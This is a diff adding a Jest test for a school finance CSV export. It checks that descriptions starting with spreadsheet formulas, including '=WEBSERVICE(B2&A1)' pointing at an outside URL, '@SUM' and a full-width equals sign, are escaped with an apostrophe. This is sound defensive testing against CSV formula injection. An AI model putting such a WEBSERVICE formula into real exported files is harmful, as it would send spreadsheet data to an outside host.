@@ -56,6 +56,25 @@ it('no text begins with what a program computes', () => {
     expect(cell.replace('"', '')).not.toMatch(/^[=+\-@\t\r]/);
 });
 
+it.each([
+  ['x,https://voorbeeld.nl/?,=WEBSERVICE(B2&A1),y', "x,https://voorbeeld.nl/?,'=WEBSERVICE(B2&A1),y"],
+  ['Boek,\t @SUM(A1)', "Boek,\t '@SUM(A1)"],
+  ['Boek\n=1+1', `"Boek\n'=1+1"`],
+  ['＝1+1', "'＝1+1"],
+  ['Reis (heen - terug), 2 + 3 dagen', 'Reis (heen - terug), 2 + 3 dagen'],
+])('of %j no part is computed by a program that ends a cell at the comma', (description, written) => {
+  const one = readSchoolAtOnce(
+    rawSchool({
+      Medewerkers: [employee(1)],
+      Bestedingen: [
+        booking({ Personeelsnummer: 1, Datum: dayOf(2026, 9, 3), Bedrag: 1, Omschrijving: description }),
+      ],
+    }),
+  );
+  const { text } = financeCsv(one, one.school!, { kind: 'schoolYear', year: 2026 }, financeNl);
+  expect(text.endsWith(`;1,00;;;${written}\r\n`)).toBe(true);
+});
+
 it('offers the years in which something was booked, the newest first', () => {
   expect(financePeriods(reading.school!)).toEqual([
     { kind: 'calendarYear', year: 2027 },
